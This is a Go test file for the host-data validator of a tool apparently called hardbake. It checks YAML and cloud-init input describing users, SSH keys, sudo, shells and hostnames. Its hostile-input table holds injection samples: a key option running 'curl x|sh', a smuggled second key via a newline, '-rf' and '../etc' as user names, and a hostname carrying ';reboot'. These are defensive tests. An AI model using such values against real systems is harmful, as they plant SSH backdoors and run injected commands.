package host

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"

	"github.com/hardbake/hardbake/bootstrap"
	"github.com/hardbake/hardbake/bootstrap/distro"
	"github.com/hardbake/hardbake/internal/testroot"
)

const (
	edKey  = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIL/24x1N6/StptXPjMdGTu0bJCVv29PkBnNDgt6brKwj alice@laptop"
	dsaKey = "ssh-dss AAAAB3NzaC1kc3MAAACBAJt7pnjXeIKLD373xeG649t5NY2xjng6GlVyDgK1e52d1F2T3g3zLVCdQUYgDp8KnaTLQvsFhSnbE/e9S4mNTp+j1HUan7TLimDl2fUbb/v4scktKPAxNIBA0NTebe2wiky2OYCrXwHa9x18aw6un8wigP6I8FkrE5BPIhCJZ5sTAAAAFQCrAogahor6wROdX/nHUKJ735oQxwAAAIBC2fhxSxpzbaNv940louUwoqQd48a0GAh0T9/ZNhBVGaKGqnrVTHSXRDaFwHFXlzgykknFjwViliKDksr/mCaptSpHGm7yQGaHJ9Nd9mQziIArDWzxhkyg/7hn4UbvFI0USZ6Wq8LdNb+7IqT0lcmXlV3Fd4ixIEhE/KevV2ZSLwAAAIBaEndelmY+TPp3/p3qcpUn648X1TgRTjnc5MxEbyhwj0hgCmB+Gb5x5Fw9wVUhY5KUY19LrrnRy2ECmn/2gsCYaDwRxJ1EVf3UisKyrcP5P4yBaKnSd5cmIz7uklvLIMRl0LPAFM+pLJp5FBXxQj9b5XkWKtUE2JkyYKrZLiCNzg== root@vm"
	edFP   = "SHA256:"
)

// fixtureRoot is a minimal Debian /etc: a few system accounts, one regular
// user, the usual groups and shells.
func fixtureRoot(t testing.TB) *Target {
	t.Helper()
	files := map[string]string{
		"etc/os-release": "ID=debian\nVERSION_ID=12\n",
		"etc/passwd": "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" +
			"nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\nbob:x:1000:1000:Bob:/home/bob:/bin/bash\n" +
			"reserved:x:60001:60001::/nonexistent:/usr/sbin/nologin\n",
		"etc/group":      "root:x:0:\ndaemon:x:1:\nadm:x:4:\nsudo:x:27:\nusers:x:100:\nbob:x:1000:\nstaff:x:50:\n",
		"etc/shells":     "# /etc/shells: valid login shells\n/bin/sh\n/bin/bash\n/usr/bin/bash\n",
		"etc/login.defs": "UID_MIN\t\t\t 1000\nUID_MAX\t\t\t60000\n",
		"etc/sudoers":    "%sudo\tALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
	}
	r, d := testroot.Open(t, testroot.Files(t, files))
	return &Target{Root: r, Distro: d}
}

func rsaKey(t *testing.T, bits int) string {
	t.Helper()
	k, err := rsa.GenerateKey(rand.Reader, bits)
	if err != nil {
		t.Fatal(err)
	}
	pub, _ := ssh.NewPublicKey(&k.PublicKey)
	return strings.TrimSpace(string(ssh.MarshalAuthorizedKey(pub)))
}

func certKey(t *testing.T) string {
	t.Helper()
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	spub, _ := ssh.NewPublicKey(pub)
	signer, _ := ssh.NewSignerFromKey(priv)
	cert := &ssh.Certificate{Key: spub, CertType: ssh.UserCert, ValidPrincipals: []string{"alice"}, ValidBefore: ssh.CertTimeInfinity}
	if err := cert.SignCert(rand.Reader, signer); err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(ssh.MarshalAuthorizedKey(cert)))
}

func user(name string) string {
	return "user:\n  name: " + name + "\n  sudo: nopasswd\n  authorized_keys:\n    - " + edKey + "\n"
}

func TestExampleIsValid(t *testing.T) {
	h, err := Decode([]byte(ExampleYAML), "example.yaml", fixtureRoot(t))
	if err != nil {
		t.Fatal(err)
	}
	if h.User.Name != "alice" || h.User.Shell != "/bin/bash" || h.User.Sudo != SudoNoPasswd || len(h.Keys) != 1 {
		t.Fatalf("example decoded to %+v", h)
	}
	if !strings.HasPrefix(h.Keys[0].Fingerprint, edFP) || h.Keys[0].Line != edKey {
		t.Fatalf("key %+v", h.Keys[0])
	}
}

func TestGoodHostData(t *testing.T) {
	y := "user:\n  name: web-admin_2\n  shell: /usr/bin/bash\n  groups: [adm, staff]\n  sudo: password\n  authorized_keys:\n" +
		"    - \"  " + edKey + "  \"\n    - " + rsaKey(t, 2048) + "\n" +
		"ssh:\n  address_family: inet6\n  port: 2222\nhostname: web-1.example.com\n"
	h, err := Decode([]byte(y), "h.yaml", fixtureRoot(t))
	if err != nil {
		t.Fatal(err)
	}
	if len(h.Keys) != 2 || h.Keys[0].Line != edKey || h.Keys[1].Type != "ssh-rsa" || h.SSH.Port != 2222 || h.Hostname != "web-1.example.com" {
		t.Fatalf("%+v", h)
	}
	// An existing regular user (a power cut after useradd) is accepted.
	if _, err := Decode([]byte(user("bob")), "h.yaml", fixtureRoot(t)); err != nil {
		t.Fatalf("existing regular user: %v", err)
	}
	// Only the ssh part or only a hostname is fine too.
	for _, y := range []string{"ssh:\n  address_family: inet\n", "hostname: db\n"} {
		if _, err := Decode([]byte(y), "h.yaml", fixtureRoot(t)); err != nil {
			t.Fatalf("%q: %v", y, err)
		}
	}
}

// TestHostileHostData: each input is refused with exit code 2 (ErrInvalid)
// and a message naming the field and its line.
func TestHostileHostData(t *testing.T) {
	cases := []struct {
		name, yaml, want string
	}{
		{"key with command= option", "user:\n  name: alice\n  sudo: nopasswd\n  authorized_keys:\n    - command=\"/bin/sh -c 'curl x|sh'\",no-pty " + edKey + "\n",
			"user.authorized_keys[0] (line 5): has authorized_keys options (command, no-pty): options are not accepted"},
		{"key with from= option", "user:\n  name: alice\n  sudo: nopasswd\n  authorized_keys:\n    - from=\"10.0.0.1\" " + edKey + "\n",
			"user.authorized_keys[0] (line 5): has authorized_keys options (from)"},
		{"key with embedded newline", "user:\n  name: alice\n  sudo: nopasswd\n  authorized_keys:\n    - \"" + edKey + "\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIL/24x1N6/StptXPjMdGTu0bJCVv29PkBnNDgt6brKwj evil\"\n",
			"user.authorized_keys[0] (line 5): holds a line break"},
		{"key with NUL", "user:\n  name: alice\n  sudo: nopasswd\n  authorized_keys:\n    - \"" + edKey + "\\0\"\n",
			"user.authorized_keys[0] (line 5): holds a control character (U+0000)"},
		{"DSA key", "user:\n  name: alice\n  sudo: nopasswd\n  authorized_keys:\n    - " + dsaKey + "\n",
			"user.authorized_keys[0] (line 5): DSA keys (ssh-dss) are refused"},
		{"garbage key", "user:\n  name: alice\n  sudo: nopasswd\n  authorized_keys:\n    - ssh-ed25519 bm90IGEga2V5 x\n",
			"user.authorized_keys[0] (line 5): is not an SSH public key"},
		{"short RSA key", "user:\n  name: alice\n  sudo: nopasswd\n  authorized_keys:\n    - " + rsaKey(t, 1024) + "\n",
			"user.authorized_keys[0] (line 5): RSA key of 1024 bits is too short (at least 2048)"},
		{"certificate", "user:\n  name: alice\n  sudo: nopasswd\n  authorized_keys:\n    - " + certKey(t) + "\n",
			"user.authorized_keys[0] (line 5): is a certificate (ssh-ed25519-cert-v01@openssh.com), not a key"},
		{"same key twice", "user:\n  name: alice\n  sudo: nopasswd\n  authorized_keys:\n    - " + edKey + "\n    - " + edKey + " other comment\n",
			"user.authorized_keys[1] (line 6): SHA256:"},
		{"no keys", "user:\n  name: alice\n  sudo: nopasswd\n",
			"user.authorized_keys (line 2): at least one key is required"},
		{"user root", user("root"), `user.name (line 2): "root" is refused`},
		{"system user daemon", user("daemon"), `user.name (line 2): "daemon" is an existing system account (uid 1; regular accounts have uids 1000-60000)`},
		{"reserved uid range", user("reserved"), `user.name (line 2): "reserved" is an existing system account (uid 60001`},
		{"nobody", user("nobody"), `user.name (line 2): "nobody" is an existing system account (uid 65534`},
		{"upper case", user("Alice"), `user.name (line 2): "Alice" is not a valid user name on debian: it must match ^[a-z][-a-z0-9_]*$ (adduser NAME_REGEX)`},
		{"option-like name", user("\"-rf\""), `user.name (line 2): "-rf" is not a valid user name on debian`},
		{"33 characters", user(strings.Repeat("a", 33)), `user.name (line 2): "` + strings.Repeat("a", 33) + `" is 33 characters; at most 32`},
		{"name of an existing group", user("adm"), `user.name (line 2): "adm" is already a group of the image`},
		{"path in name", user("\"../etc\""), `user.name (line 2): "../etc" is not a valid user name`},
		{"shell not in /etc/shells", "user:\n  name: alice\n  shell: /bin/zsh\n  sudo: nopasswd\n  authorized_keys: [\"" + edKey + "\"]\n",
			`user.shell (line 3): "/bin/zsh" is not listed in the image's /etc/shells`},
		{"relative shell", "user:\n  name: alice\n  shell: bash\n  sudo: nopasswd\n  authorized_keys: [\"" + edKey + "\"]\n",
			`user.shell (line 3): "bash" is not an absolute path`},
		{"missing group", "user:\n  name: alice\n  groups: [adm, docker]\n  sudo: nopasswd\n  authorized_keys: [\"" + edKey + "\"]\n",
			`user.groups[1] (line 3): group "docker" does not exist in the image`},
		{"bad sudo", "user:\n  name: alice\n  sudo: \"ALL=(ALL) NOPASSWD:ALL\"\n  authorized_keys: [\"" + edKey + "\"]\n",
			`user.sudo (line 3): "ALL=(ALL) NOPASSWD:ALL" is not one of password, nopasswd`},
		{"sudo missing", "user:\n  name: alice\n  authorized_keys: [\"" + edKey + "\"]\n",
			"user.sudo (line 2): is required: password or nopasswd"},
		{"unknown key", "user:\n  name: alice\n  passwd: hunter2\n", "user.passwd (line 3): unknown key; allowed here: authorized_keys, groups, name, shell, sudo"},
		{"unknown top-level key", "users: []\n", "users (line 1): unknown key; allowed here: hostname, ssh, user"},
		{"bad address_family", "ssh:\n  address_family: ipv4\n", `ssh.address_family (line 2): "ipv4" is not one of any, inet, inet6`},
		{"port 0", "ssh:\n  port: 0\n", "ssh.port (line 2): 0 is out of range 1-65535"},
		{"port 70000", "ssh:\n  port: 70000\n", "ssh.port (line 2): 70000 is out of range 1-65535"},
		{"port not a number", "ssh:\n  port: ssh\n", `ssh.port (line 2): must be an integer, got "ssh"`},
		{"bad hostname", "hostname: \"web_1;reboot\"\n", `hostname (line 1): "web_1;reboot" is not a host name`},
		{"long hostname", "hostname: " + strings.Repeat("a.", 33) + "b\n", "hostname (line 1): \"" + strings.Repeat("a.", 33) + "b\" is 67 characters; the kernel keeps at most 64"},
		{"empty", "# nothing\n", "host data holds no user, ssh or hostname"},
		{"not a mapping", "- alice\n", "host (line 1): must be a mapping of keys, got a list"},
		{"not YAML", "user: [\n", "host (line 1): not valid YAML"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := Decode([]byte(c.yaml), "host.yaml", fixtureRoot(t))
			if err == nil {
				t.Fatalf("accepted:\n%s", c.yaml)
			}
			if !errors.Is(err, bootstrap.ErrInvalid) || bootstrap.ExitCode(err) != 2 {
				t.Fatalf("not ErrInvalid: %v", err)
			}
			if !strings.Contains(err.Error(), c.want) {
				t.Fatalf("got:\n%v\nwant it to contain:\n%s", err, c.want)
			}
			if strings.Contains(c.yaml, "AAAAC3") && strings.Contains(err.Error(), "AAAAC3") {
				t.Fatalf("the message echoes a key: %v", err)
			}
		})
	}
}

func TestAllProblemsAtOnce(t *testing.T) {
	y := "user:\n  name: Root\n  shell: /bin/zsh\n  sudo: maybe\n  authorized_keys: [\"" + dsaKey + "\"]\nssh:\n  port: 0\n"
	_, err := Decode([]byte(y), "h.yaml", fixtureRoot(t))
	var e *Error
	if !errors.As(err, &e) || len(e.Problems) != 5 {
		t.Fatalf("want 5 problems, got %v", err)
	}
}

// Without a target (building a seed), the strictest name rule applies.
func TestNoTarget(t *testing.T) {
	if _, err := Decode([]byte(user("_svc")), "h.yaml", nil); err == nil || !strings.Contains(err.Error(), "every supported distribution") {
		t.Fatalf("got %v", err)
	}
	if _, err := Decode([]byte(user("daemon")), "h.yaml", nil); err != nil {
		t.Fatalf("no target cannot know daemon is a system user: %v", err)
	}
}

func TestFedoraNameRule(t *testing.T) {
	tg := fixtureRoot(t)
	tg.Distro = distro.Info{Family: distro.Fedora, AdminGroup: "sudo"}
	if _, err := Decode([]byte(user("_svc")), "h.yaml", tg); err != nil {
		t.Fatalf("useradd accepts _svc: %v", err)
	}
}

func TestFromUserData(t *testing.T) {
	ud := "#cloud-config\npackage_update: false\nhardbake:\n  user:\n    name: alice\n    sudo: nopasswd\n    authorized_keys:\n      - " + edKey + "\n  ssh:\n    address_family: inet\n"
	h, err := FromUserData([]byte(ud), "seed /dev/sr0", fixtureRoot(t))
	if err != nil || h == nil || h.User.Name != "alice" || h.SSH.AddressFamily != "inet" {
		t.Fatalf("%+v %v", h, err)
	}
	bad := strings.Replace(ud, "inet", "ipv4", 1)
	_, err = FromUserData([]byte(bad), "seed /dev/sr0", fixtureRoot(t))
	if err == nil || !strings.Contains(err.Error(), `hardbake.ssh.address_family (line 10): "ipv4"`) {
		t.Fatalf("got %v", err)
	}
	for _, none := range []string{"#!/bin/sh\necho hi\n", "#cloud-config\nusers: []\n", "", "Content-Type: multipart/mixed\n"} {
		if h, err := FromUserData([]byte(none), "seed", fixtureRoot(t)); h != nil || err != nil {
			t.Fatalf("%q: %v %v", none, h, err)
		}
	}
}

func TestFileOwnerAndMode(t *testing.T) {
	tg := fixtureRoot(t)
	os.MkdirAll(tg.Root.HostPath("/etc/hardbake"), 0o755)
	file := tg.Root.HostPath(File)
	write := func(mode os.FileMode, uid int) {
		os.Remove(file)
		if err := os.WriteFile(file, []byte(ExampleYAML), mode); err != nil {
			t.Fatal(err)
		}
		os.Chmod(file, mode)
		if os.Geteuid() == 0 {
			os.Chown(file, uid, 0)
		}
	}
	if os.Geteuid() != 0 {
		t.Skip("needs root to own files as root and as others")
	}
	cases := []struct {
		mode os.FileMode
		uid  int
		want string
	}{
		{0o666, 0, "/etc/hardbake/host.yaml: 1 problem(s):\n  host: is writable by group or others (mode 0666): refused"},
		{0o620, 0, "is writable by group or others (mode 0620)"},
		{0o600, 1000, "is owned by uid 1000, not root: refused"},
	}
	for _, c := range cases {
		write(c.mode, c.uid)
		_, err := Find(Sources{Root: tg.Root}, tg)
		if err == nil || !strings.Contains(err.Error(), c.want) || bootstrap.ExitCode(err) != 2 {
			t.Errorf("mode %o uid %d: got %v, want %q", c.mode, c.uid, err, c.want)
		}
	}
	// A symlink is refused even when it points at a good file.
	good := filepath.Join(t.TempDir(), "good.yaml")
	os.WriteFile(good, []byte(ExampleYAML), 0o600)
	os.Remove(file)
	os.Symlink(good, file)
	if _, err := Find(Sources{Root: tg.Root}, tg); err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("symlink: %v", err)
	}
	// --config wins over the file; the right file is accepted.
	f, err := Find(Sources{Config: good, Root: tg.Root}, tg)
	if err != nil || f.Kind != "config" || f.HostPath != good {
		t.Fatalf("%+v %v", f, err)
	}
	os.Remove(file)
	write(0o600, 0)
	f, err = Find(Sources{Root: tg.Root, Seed: func() (*Seed, error) { t.Fatal("seed read although the file exists"); return nil, nil }}, tg)
	if err != nil || f.Kind != "file" {
		t.Fatalf("%+v %v", f, err)
	}
	os.Remove(file)
	f, err = Find(Sources{Root: tg.Root, Seed: func() (*Seed, error) {
		return &Seed{Source: "seed test.iso", UserData: []byte("#cloud-config\nhardbake:\n  hostname: seeded\n")}, nil
	}}, tg)
	if err != nil || f.Kind != "seed" || f.Host.Hostname != "seeded" || f.HostPath != "" || f.Source != "seed test.iso user-data" {
		t.Fatalf("%+v %v", f, err)
	}
	// The seed's own host data file wins over a hardbake: key in user-data;
	// its problems name the file.
	f, err = Find(Sources{Root: tg.Root, Seed: func() (*Seed, error) {
		return &Seed{Source: "seed test.iso", HostData: []byte("hostname: from-file\n"), UserData: []byte("#cloud-config\nhardbake:\n  hostname: seeded\n")}, nil
	}}, tg)
	if err != nil || f.Host.Hostname != "from-file" || f.Source != "seed test.iso hardbake.yaml" {
		t.Fatalf("%+v %v", f, err)
	}
	_, err = Find(Sources{Root: tg.Root, Seed: func() (*Seed, error) {
		return &Seed{Source: "seed test.iso", HostData: []byte("hostname: -bad\n")}, nil
	}}, tg)
	if err == nil || !strings.Contains(err.Error(), "seed test.iso hardbake.yaml") || !strings.Contains(err.Error(), "hostname (line 1)") {
		t.Fatalf("bad seed host file: %v", err)
	}
	// A seed with neither: no host data.
	if f, err := Find(Sources{Root: tg.Root, Seed: func() (*Seed, error) { return &Seed{Source: "seed test.iso"}, nil }}, tg); f != nil || err != nil {
		t.Fatalf("empty seed: %+v %v", f, err)
	}
	if f, err := Find(Sources{Root: tg.Root}, tg); f != nil || err != nil {
		t.Fatalf("nothing anywhere: %+v %v", f, err)
	}
}
